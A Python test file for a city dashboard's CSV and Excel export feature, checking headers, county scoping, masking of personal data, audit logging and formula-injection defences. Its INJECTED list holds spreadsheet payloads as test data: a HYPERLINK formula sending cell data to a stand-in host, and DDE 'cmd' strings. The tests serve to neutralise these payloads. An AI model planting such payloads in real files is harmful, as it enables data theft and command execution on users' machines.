"""Exports: every declared table downloads as CSV and Excel with units, period and 数据截至 in its
header, within the user's scope, with personal information masked, and every download audited."""

from __future__ import annotations

import csv
import io

import pandas as pd

from cockpit import exports
from cockpit.components import FIT_GRAPH, SIZED_GRAPH
from cockpit.exports import Header, Table, mask_personal, to_csv, to_xlsx
from cockpit.panels import all_panels
from cockpit.scope import EXPORT, EXPORT_UNMASKED, UNMASK, Principal
from tests.dash_requests import ORIGIN

PERIOD = "2026-10"
COUNTY = "140404"  # 上党区
OTHER = "140403"  # 潞州区
TABLE_KEYS = {t.key for p in all_panels() for t in p.tables}


def _app(settings, principal: Principal):
    from cockpit.factory import create_app

    return create_app(settings, principal_provider=lambda: principal)


def _close(app) -> None:
    for source in app.server.extensions["cockpit_hub"].sources.values():
        source.close()


def _rows(body: bytes) -> tuple[dict[str, str], list[dict[str, str]]]:
    """(header fields, table rows) of an exported CSV."""
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    blank = lines.index([])
    fields = {line[0]: line[1] for line in lines[1:blank] if len(line) == 2}
    names = lines[blank + 1]
    return fields, [dict(zip(names, row, strict=True)) for row in lines[blank + 2 :]]


def _exports_audited(app) -> list[tuple[str, str, str]]:
    """(object, result, user) of the export records in the app's audit log, oldest first."""
    from cockpit import audit
    from cockpit.store import get_store

    with app.server.app_context():
        found = audit.entries(get_store(app.server.extensions["cockpit_hub"]), action="export")
    return [(e.object, e.result, e.user_id) for e in reversed(found)]


# -- the shared writer ---------------------------------------------------------------------------
HEADER = Header("长治市测试表", "全市", "2026年10月", "2026-11-19 23:07", "件", is_demo=True)


def test_csv_and_excel_carry_units_period_as_of_and_write_missing_as_a_dash() -> None:
    from openpyxl import load_workbook

    frame = pd.DataFrame(
        {"县区": ["潞州区", "上党区"], "受理量（件）": pd.array([12, None], dtype="Int64")}
    )
    body = to_csv(frame, HEADER)
    assert body.startswith(b"\xef\xbb\xbf")
    fields, rows = _rows(body)
    assert fields == {
        "区域": "全市",
        "统计期": "2026年10月",
        "数据截至": "2026-11-19 23:07",
        "单位": "件",
        "说明": "演示数据，非真实统计",
    }
    assert rows == [
        {"县区": "潞州区", "受理量（件）": "12"},
        {"县区": "上党区", "受理量（件）": "—"},
    ]
    sheet = load_workbook(io.BytesIO(to_xlsx(frame, HEADER))).active
    cells = list(sheet.iter_rows(values_only=True))
    assert cells[0][0] == "长治市测试表" and cells[4][:2] == ("单位", "件")
    header = next(i for i, r in enumerate(cells) if r[0] == "县区")
    assert cells[header + 1][1] == 12 and cells[header + 2][1] == "—"  # numbers stay numbers


def test_personal_columns_are_masked() -> None:
    frame = pd.DataFrame(
        {"来电人": ["张三丰"], "来电号码": ["13812341234"], "内容": ["请回电13912345678"]}
    )
    table = Table(frame, HEADER, "t", {"来电人": "name", "来电号码": "phone", "内容": "text"})
    masked = mask_personal(table)
    assert masked.frame.iloc[0].tolist() == ["张**", "138****1234", "请回电139****5678"]
    assert "个人信息已脱敏" in masked.header.notes
    assert table.frame.iloc[0].tolist() == ["张三丰", "13812341234", "请回电13912345678"]


def test_charts_offer_only_a_png_download_and_no_zoom() -> None:
    for config in (FIT_GRAPH, SIZED_GRAPH):
        assert config["modeBarButtons"] == [["toImage"]]
        assert config["toImageButtonOptions"]["format"] == "png"
        assert config["displayModeBar"] == "hover" and config["scrollZoom"] is False


# -- every table over HTTP -----------------------------------------------------------------------
def test_every_declared_table_downloads_as_csv_and_excel(settings) -> None:
    from openpyxl import load_workbook

    assert {
        "hotline.tickets",
        "hotline.counties",
        "key_work.tasks",
        "risk.warnings",
        "emergency.events",
    } <= TABLE_KEYS
    app = _app(settings, Principal("lead", "city_leader", None, frozenset({EXPORT})))
    client = app.server.test_client()
    try:
        for key in sorted(TABLE_KEYS):
            response = client.get(f"/export/{key}.csv?period={PERIOD}")
            assert response.status_code == 200, key
            assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
            fields, rows = _rows(response.data)
            assert {"区域", "统计期", "数据截至", "单位"} <= set(fields), key
            assert fields["数据截至"] != "未知", key
            assert rows, f"{key}: no rows in the demo data"
            book = client.get(f"/export/{key}.xlsx?period={PERIOD}")
            assert book.status_code == 200
            sheet = load_workbook(io.BytesIO(book.data)).active
            assert sheet["A1"].value == response.data.decode("utf-8-sig").split("\r\n")[0]
        assert client.get("/export/nothing.csv").status_code == 404
        assert client.get("/export/hotline.tickets.pdf").status_code == 404
        assert _exports_audited(app) == [
            (f"{key}.{fmt}", "ok", "lead") for key in sorted(TABLE_KEYS) for fmt in ("csv", "xlsx")
        ]
    finally:
        _close(app)


def test_a_county_principals_exports_hold_only_their_county(settings, demo_sql) -> None:
    """Whatever county the link names, the hub answers within the principal's scope."""
    names = settings.city.county_names
    principal = Principal("c", "county_leader", frozenset({COUNTY}), frozenset({EXPORT}))
    app = _app(settings, principal)
    client = app.server.test_client()
    try:
        _, rows = _rows(client.get(f"/export/hotline.tickets.csv?period={PERIOD}").data)
        assert rows and {r["县区"] for r in rows} == {names[COUNTY]}
        # A forged link naming another county gets nothing of it (scope AND the filter).
        forged = f"/export/hotline.tickets.csv?period={PERIOD}&county={OTHER}"
        assert _rows(client.get(forged).data)[1] == []
        _, rows = _rows(client.get(f"/export/hotline.counties.csv?period={PERIOD}").data)
        assert [r["县区"] for r in rows] == [names[COUNTY]]
        truth = demo_sql(
            "SELECT count(*) AS n FROM hotline_tickets WHERE county_code='140404' "
            "AND received_at >= '2026-10-01' AND received_at < '2026-11-01'"
        )["n"].iloc[0]
        assert rows[0]["受理量（件）"] == str(truth)
        fields, rows = _rows(client.get("/export/key_work.tasks.csv").data)
        assert rows and {r["县区"] for r in rows} == {names[COUNTY]}
        assert fields["区域"] == names[COUNTY]  # the user's county, not 全市 (#21 item 15)
        for key in ("risk.warnings", "emergency.events", "emergency.resources", "hotline.units"):
            assert _rows(client.get(f"/export/{key}.csv").data)[0]["区域"] == names[COUNTY], key
        for key, column in (("risk.warnings", "地点"), ("emergency.events", "县区")):
            _, rows = _rows(client.get(f"/export/{key}.csv?county={OTHER}").data)
            assert not any(names[OTHER] in r[column] for r in rows), key
    finally:
        _close(app)


def test_ticket_export_holds_no_raw_name_or_phone(settings, demo_sql) -> None:
    """The raw names and phones of the exported tickets are nowhere in the file, even for a
    principal with UNMASK; the unmasked export (its own right, a reason, POST) has them (so the
    check can fail)."""
    raw = demo_sql(
        "SELECT ticket_id, citizen_name, citizen_phone FROM hotline_tickets "
        "WHERE county_code='140404' AND received_at >= '2026-10-01' "
        "AND received_at < '2026-11-01' AND citizen_phone IS NOT NULL"
    )
    assert len(raw) > 10
    url = f"/export/hotline.tickets.csv?period={PERIOD}&county={COUNTY}"
    masked_app = _app(settings, Principal("a", "staff", None, frozenset({EXPORT, UNMASK})))
    open_app = _app(settings, Principal("b", "analyst", None, frozenset({EXPORT, EXPORT_UNMASKED})))
    try:
        text = masked_app.server.test_client().get(url).data.decode("utf-8-sig")
        unmasked = (
            open_app.server.test_client()
            .post(url, json={"reason": "核实重复来电并回访"}, headers=ORIGIN)
            .data.decode("utf-8-sig")
        )
    finally:
        _close(masked_app)
        _close(open_app)
    assert "个人信息已脱敏" in text
    for row in raw.itertuples():
        assert row.ticket_id in text
        assert row.citizen_phone not in text
        assert f",{row.citizen_name}," not in text
    assert all(row.citizen_phone in unmasked for row in raw.itertuples())


def test_export_without_the_permission_is_refused_and_audited(settings) -> None:
    app = _app(settings, Principal("v", "analyst", None, frozenset()))
    try:
        response = app.server.test_client().get("/export/key_work.tasks.xlsx")
        assert response.status_code == 403 and "没有导出权限" in response.get_data(as_text=True)
        assert _exports_audited(app) == [("key_work.tasks.xlsx", "denied", "v")]
    finally:
        _close(app)


def test_links_follow_the_filters_and_the_open_list() -> None:
    assert exports.href("hotline.tickets", "csv", {"period": PERIOD, "county": None}) == (
        f"/export/hotline.tickets.csv?period={PERIOD}"
    )
    link = exports.href("hotline.tickets", "xlsx", {"period": PERIOD, "drill": "county|140404"})
    assert link == f"/export/hotline.tickets.xlsx?period={PERIOD}&drill=county%7C140404"


# -- the lists added for 一键直联's issue: 红黑榜, repeats, deadlines, resources, roster -------------
def _csv(app, path: str) -> tuple[dict[str, str], list[dict[str, str]]]:
    response = app.server.test_client().get(path)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return _rows(response.data)


def test_deadline_export_is_every_open_ticket_near_or_past_its_deadline(settings, demo_sql) -> None:
    from cockpit.domains.hotline import data

    app = _app(settings, Principal("c", "county_staff", frozenset({COUNTY}), frozenset({EXPORT})))
    try:
        with app.server.test_request_context("/"):
            now = data.now_of(app.server.extensions["cockpit_hub"])
        fields, rows = _csv(app, f"/export/hotline.deadlines.csv?period={PERIOD}&county={OTHER}")
        assert rows == []  # a forged county outside scope: nothing
        fields, rows = _csv(app, f"/export/hotline.deadlines.csv?period={PERIOD}")
    finally:
        _close(app)
    limit = now + pd.Timedelta(hours=72)
    truth = demo_sql(
        "SELECT ticket_id, deadline FROM hotline_tickets WHERE closed_at IS NULL "
        f"AND NOT direct_answer AND deadline < TIMESTAMP '{limit:%Y-%m-%d %H:%M:%S}' "
        f"AND county_code = '{COUNTY}' ORDER BY deadline, ticket_id"
    )
    assert len(truth) > 0
    assert [r["工单编号"] for r in rows] == list(truth["ticket_id"])
    assert {r["县区"] for r in rows} == {settings.city.county_names[COUNTY]}
    assert all(r["剩余或超期"].startswith(("超期", "剩余")) for r in rows)
    assert f"{now:%Y-%m-%d %H:%M}" in fields["统计期"]


def test_repeat_export_masks_callers_unless_unmasked_with_a_reason(settings, demo_sql) -> None:
    raw = demo_sql(
        "SELECT citizen_phone, category_l2, count(*) AS n FROM hotline_tickets "
        "WHERE received_at >= '2026-10-01' AND received_at < '2026-11-01' "
        "AND citizen_phone IS NOT NULL GROUP BY ALL HAVING count(*) >= 2 ORDER BY n DESC LIMIT 5"
    )
    assert len(raw) > 0, "the demo data has repeat callers"
    url = f"/export/hotline.repeats.csv?period={PERIOD}"
    masked_app = _app(settings, Principal("a", "city_staff", None, frozenset({EXPORT, UNMASK})))
    open_app = _app(settings, Principal("b", "analyst", None, frozenset({EXPORT, EXPORT_UNMASKED})))
    try:
        text = masked_app.server.test_client().get(url).data.decode("utf-8-sig")
        answer = open_app.server.test_client().post(
            url, json={"reason": "核实重复来电并回访"}, headers=ORIGIN
        )
        assert answer.status_code == 200
        _, rows = _rows(answer.data)
    finally:
        _close(masked_app)
        _close(open_app)
    top = raw.iloc[0]
    assert int(rows[0]["工单数（件）"]) == int(top.n)
    assert any(r["来电号码"] == top.citizen_phone for r in rows)  # unmasked: the real number
    assert all(phone not in text for phone in raw.citizen_phone)  # masked: none of them
    assert "个人信息已脱敏" in text


def test_red_black_board_export_matches_the_screen(settings) -> None:
    from cockpit.domains.hotline import data
    from cockpit.domains.hotline.config import module_config
    from cockpit.domains.hotline.transform import period_windows, unit_board

    app = _app(settings, Principal("lead", "city_leader", None, frozenset({EXPORT})))
    try:
        _, rows = _csv(app, f"/export/hotline.units.csv?period={PERIOD}")
        with app.server.test_request_context("/"):
            hub = app.server.extensions["cockpit_hub"]
            config, now = module_config(hub), data.now_of(hub)
            window = period_windows(PERIOD, now)["current"]
            result = data.by_group(hub, config, window, now, "responsible_unit", None)
            red, black = unit_board(result.frame, config.ranking.min_tickets, config.ranking.size)
    finally:
        _close(app)
    assert not red.empty
    expected = [("红榜", u) for u in red.responsible_unit] + [
        ("黑榜", u) for u in black.responsible_unit
    ]
    assert [(r["榜单"], r["承办单位"]) for r in rows] == expected
    assert [int(r["应办结（件）"]) for r in rows] == [*red.due.astype(int), *black.due.astype(int)]


def test_resources_and_roster_exports(settings, demo_sql) -> None:
    from cockpit import clock

    app = _app(settings, Principal("c", "county_staff", frozenset({COUNTY}), frozenset({EXPORT})))
    try:
        _, resources = _csv(app, "/export/emergency.resources.csv")
        _, roster = _csv(app, "/export/emergency.roster.csv")
    finally:
        _close(app)
    mine = demo_sql(f"SELECT resource_id FROM emergency_resources WHERE county_code = '{COUNTY}'")
    assert sorted(r["资源编号"] for r in resources) == sorted(mine.resource_id)
    today = clock.today()
    week = demo_sql(
        "SELECT strftime(duty_date, '%Y-%m-%d') AS d, role, name FROM duty_roster "
        f"WHERE duty_date >= DATE '{today}' AND duty_date < DATE '{today}' + INTERVAL 7 DAY"
    )
    assert len(roster) == len(week) > 0
    assert {(r["值班日期"], r["岗位"], r["姓名"]) for r in roster} == set(
        week.itertuples(index=False, name=None)
    )


# -- formula injection (#21 item 6) ----------------------------------------------------------------
INJECTED = [
    '=HYPERLINK("http://x/?d="&B12,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_that_start_a_formula_are_written_as_text_and_numbers_stay_numbers() -> None:
    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote, in CSV
    and Excel, in the header lines too; a negative number in a numeric column stays a number."""
    from openpyxl import load_workbook

    frame = pd.DataFrame({"诉求内容": INJECTED, "增速（%）": [-3.5, -1.0, 0.0, 2.5, -7.25, 1.0]})
    header = Header("=1+1 标题", "全市", "2026年10月", "—", "件", notes=("@SUM(A1)",))
    _, rows = _rows(to_csv(frame, header))
    assert [r["诉求内容"] for r in rows] == [f"'{text}" for text in INJECTED]
    assert [r["增速（%）"] for r in rows] == ["-3.5", "-1.0", "0.0", "2.5", "-7.25", "1.0"]
    book = load_workbook(io.BytesIO(to_xlsx(frame, header)))
    sheet = book.active
    cells = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert cells[0][0].value == "'=1+1 标题"
    first = next(i for i, r in enumerate(cells) if r[0].value == "诉求内容") + 1
    assert [r[0].value for r in cells[first:]] == [f"'{text}" for text in INJECTED]
    assert [r[1].value for r in cells[first:]] == [-3.5, -1.0, 0.0, 2.5, -7.25, 1.0]
    assert all(r[1].data_type == "n" for r in cells[first:])


def test_the_economy_table_writer_neutralises_formulas_too() -> None:
    from panels.economy import export

    table = pd.DataFrame(
        [{c: "" for c in export.COLUMNS} | {"指标": "=1+2", "数值": -12.5, "_note": "@x"}]
    )
    meta = export.TableMeta("长治市", "全市", "2026年1-10月", "—")
    _, rows = _rows(export.to_csv(table, meta))
    assert rows[0]["指标"] == "'=1+2" and rows[0]["备注"] == "'@x" and rows[0]["数值"] == "-12.5"


def test_control_characters_in_ticket_text_do_not_break_the_excel_file() -> None:
    """Text pasted from Word carries \\x0b and the like, which openpyxl refuses: dropped."""
    from openpyxl import load_workbook

    frame = pd.DataFrame({"诉求内容": ["第一行\x0b第二行\x00", "\x0b=1+1"]})
    sheet = load_workbook(io.BytesIO(to_xlsx(frame, HEADER))).active
    values = [c for row in sheet.iter_rows(values_only=True) for c in row]
    assert "第一行第二行" in values and "'=1+1" in values  # no formula hidden behind one
    assert [r["诉求内容"] for r in _rows(to_csv(frame, HEADER))[1]] == ["第一行第二行", "'=1+1"]
